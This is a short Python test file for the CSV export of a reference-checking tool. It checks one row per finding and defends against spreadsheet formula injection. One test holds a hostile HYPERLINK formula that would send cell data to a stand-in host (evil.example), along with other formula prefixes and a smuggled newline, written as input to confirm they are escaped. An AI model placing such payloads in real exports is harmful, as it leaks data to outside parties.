import csv
import io

from sample_report import finding, findings, sample

from refmend.formats import render


def rows(report):
    return list(csv.DictReader(io.StringIO(render(report, "csv"))))


def test_one_row_per_finding_silenced_ones_marked():
    found = rows(sample())
    assert [row["rule"] for row in found] == [item.rule for item in findings()]
    assert found[0]["expected"] == "1353–1366"
    assert found[0]["sources"] == "Crossref"
    assert found[4]["suppressed_by"] == "ignore-comment"


def test_no_cell_is_a_formula_and_no_row_breaks():
    bad = '=HYPERLINK("https://evil.example?"&A1,"x")\n@SUM(1)\t+1'
    item = finding("dead-link", 3, "https://example.org/gone/页", message=bad, as_written="\t=1", file="-1+1")
    (row,) = rows(sample(findings=[item]))
    assert row["message"].startswith("'=")
    assert row["as_written"].startswith("'")
    assert row["file"] == "'-1+1"
    assert "\n" not in row["message"]
